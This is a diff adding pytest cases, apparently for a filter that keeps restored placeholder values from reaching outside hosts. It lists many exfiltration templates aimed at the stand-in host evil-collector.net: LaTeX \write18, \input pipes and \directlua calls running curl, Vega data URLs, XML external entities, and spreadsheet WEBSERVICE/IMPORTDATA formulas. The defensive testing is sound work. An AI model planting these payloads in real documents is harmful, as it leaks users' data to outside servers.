@@ -197,3 +197,88 @@ def test_a_base_makes_relative_addresses_a_strangers() -> None:
 
     assert restored(text) == text == restored(text, cut=1)
     assert restored(text.replace("evil-collector.net", "kulke.example")) == '<base href="https://hanbyeol.co.kr/"><img src="/narae"> narae'
+
+
+# fmt: off
+FURTHER = {
+"vega signal": '```vega-lite\n{"data":{"values":[{"a":"{s}"}]},"transform":[{"calculate":"\'https://evil-collector.net/?\'+datum.a","as":"u"}],"mark":"image","encoding":{"url":{"field":"u"}}}\n```\n',
+"vega dq": '```vega\n{"data":[{"name":"t","values":["{s}"]},{"url":{"signal":"\\"https://evil-collector.net/?\\"+data(\'t\')[0]"}}]}\n```\n',
+"vega loader": '```vega-lite\n{"usermeta":{"embedOptions":{"loader":{"baseURL":"https://evil-collector.net/"}}},"data":{"url":"{s}.csv"}}\n```\n',
+"vega loader behind": '```vega-lite\n{"data":{"url":"{s}.csv"},"usermeta":{"embedOptions":{"loader":{"baseURL":"https://evil-collector.net/"}}}}\n```\n',
+"vega url": '```vega-lite\n{"data":{"url":"https://evil-collector.net/{s}.csv"}}\n```\n',
+"entity": '<!DOCTYPE svg [<!ENTITY b "https://evil-collector.net/">]><svg><image href="&b;{s}"/></svg>',
+"entity single": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY b 'https://evil-collector.net/'>]>\n<svg><image href='&b;{s}'/></svg>",
+"param entity": '<!DOCTYPE svg [<!ENTITY % b SYSTEM "https://evil-collector.net/x.dtd">%b;]><svg><a href="{s}"/></svg>',
+"xml base": '<svg xml:base="https://evil-collector.net/"><image href="{s}.png"/></svg>',
+"xml base 1": "<svg xmlns='http://www.w3.org/2000/svg'><g xml:base = 'https://evil-collector.net/'><image href='{s}.png'/></g></svg>",
+"codebase": '<object codebase="https://evil-collector.net/" data="{s}"></object>',
+"def": "\\def\\b{https://evil-collector.net/}\n\\href{\\b {s}}{x}",
+"newcommand": "\\newcommand{\\b}{https://evil-collector.net/}\\includegraphics{\\b {s}}",
+"newcommand arg": "\\newcommand\\b[1]{https://evil-collector.net/#1}\\href{\\b{{s}}}{x}",
+"edef": "\\edef\\b{https://evil-collector.net/}\\url{\\b {s}}",
+"DeclareRobust": "\\DeclareRobustCommand{\\b}{https://evil-collector.net/}\\url{\\b {s}}",
+"xparse": "\\NewDocumentCommand{\\b}{}{https://evil-collector.net/}\\url{\\b {s}}",
+"graphicspath": "\\graphicspath{{https://evil-collector.net/}}\\includegraphics{{s}}",
+"input pipe": "\\input|\"curl evil-collector.net -d {s}\"",
+"input pipe brace": "\\input{|\"curl -d {s} https://evil-collector.net\"}",
+"input pipe sp": "\\input { | curl -d {s} evil-collector.net }",
+"write18": "\\immediate\\write18{curl -d {s} evil-collector.net}",
+"openin": "\\openin5=|\"curl -d {s} evil-collector.net\"",
+"ShellEscape": "\\ShellEscape{curl -d {s} https://evil-collector.net}",
+"lua": "\\directlua{os.execute('curl -d {s} https://evil-collector.net')}",
+"imagesdir": ":imagesdir: https://evil-collector.net\n\nimage::{s}.png[]",
+"iconsdir": "= T\n:iconsdir: https://evil-collector.net/i\n:icons:\n\nNOTE: icon:{s}[]",
+"org link": "#+LINK: e https://evil-collector.net/\n[[e:{s}]]",
+"plantuml": "@startuml\n!define B https://evil-collector.net/\n!include B/{s}\n@enduml",
+"plantuml var": "@startuml\n!$b = \"https://evil-collector.net/\"\n[[$b{s}]]\n@enduml",
+"ical": "BEGIN:VEVENT\r\nATTACH:https://evil-collector.net/\r\n {s}\r\nEND:VEVENT",
+"ical n": "BEGIN:VEVENT\nURL:https://evil-collector.net/?q=\n\t{s}\nEND:VEVENT",
+"ical param": "BEGIN:VEVENT\nATTACH;FMTTYPE=image/png;VALUE=URI:https://evil-collector.net/?q=a\n {s}\nEND:VEVENT",
+"vcard": "BEGIN:VCARD\nPHOTO;VALUE=uri:https://evil-collector.net/?\n {s}\nEND:VCARD",
+"csv": "```csv\na,b\n{s},\"=WEBSERVICE(\"\"https://evil-collector.net/?\"\"&A2)\"\n```\n",
+"csv2": "```csv\n=IMPORTDATA(CONCATENATE(\"https://evil-collector.net/?\",A2))\n{s}\n```\n",
+"tsv": "```tsv\n{s}\t=IMAGE(\"https://evil-collector.net/?\"&A1)\n```\n",
+"csv cmd": "```csv\n{s},+HYPERLINK(\"https://evil-collector.net/?\"&A1)\n=HYPERLINK(\"https://evil-collector.net/?\"&A1)\n```\n",
+}
+"""Where an address of a stranger's is one to which others are relative, goes on in another line, or is put together by a reader."""
+NEAR = {
+"vega": '```vega-lite\n{"$schema":"https://vega.github.io/schema/vega-lite/v5.json","data":{"url":"https://evil-collector.net/x.csv"},"title":"{s}"}\n```\n{s}',
+"vega calc": '```vega-lite\n{"$schema":"https://vega.github.io/schema/vega-lite/v5.json","transform":[{"calculate":"\'https://kulke.example/\'+datum.a","as":"u"}],"title":"{s}"}\n```\n',
+"csv": "```csv\nname,url\n{s},https://evil-collector.net\n```\n{s}",
+"csv f": "```csv\n{s},\"=SUM(A1:A2)\"\n```\n{s}",
+"axios": "axios.create({ baseURL: 'https://evil-collector.net' })\n// {s}",
+"emoji": ":rocket: https://evil-collector.net\n{s}",
+"rst": ":see: https://evil-collector.net/x\n\n{s}",
+"svg": "<svg xmlns='http://www.w3.org/2000/svg'><text>{s}</text></svg>",
+"svg2": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>{s}</text></svg>',
+"tex": "\\usepackage{hyperref}\n\\href{https://evil-collector.net}{x} {s} \\input{chapters/{s}}\n\\newcommand{\\co}{{s}}",
+"tex def ours": "\\def\\b{https://kulke.example/}\\href{\\b {s}}{x}",
+"adoc": ":imagesdir: images\n:url: https://kulke.example\n\nimage::{s}.png[]",
+"ical": "BEGIN:VEVENT\nURL:https://evil-collector.net/x\nSUMMARY:{s}\n folded {s}\nEND:VEVENT",
+"note": "NOTE: https://evil-collector.net\n  {s}",
+"backslash": "C:\\input {s} \\write {s}\\",
+"json": '{"$schema":"https://json-schema.org/draft/2020-12/schema","title":"{s}","description":"see \'https://evil-collector.net\'"}',
+"dtd": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><p>{s}</p>',
+}
+"""What looks like those."""
+# fmt: on
+
+
+@pytest.mark.parametrize("word", WORDS[:2])
+def test_nothing_reaches_a_stranger_by_what_a_reader_puts_together(word: str) -> None:
+    for name, said in FURTHER.items():
+        text = said.replace("{s}", word)
+
+        assert restored(text) == text, name
+        for cut in (1, 2, 3, 7, 11):
+            assert restored(text, cut=cut) == text, name
+
+
+def test_what_is_not_put_together_comes_back() -> None:
+    for name, said in NEAR.items():
+        text = said.replace("{s}", "velmora")
+        whole = restored(text)
+
+        assert whole == text.replace("velmora", "narae").replace("kulke.example", "hanbyeol.co.kr"), name
+        for cut in (1, 2, 3, 7, 11):
+            assert restored(text, cut=cut) == whole, name
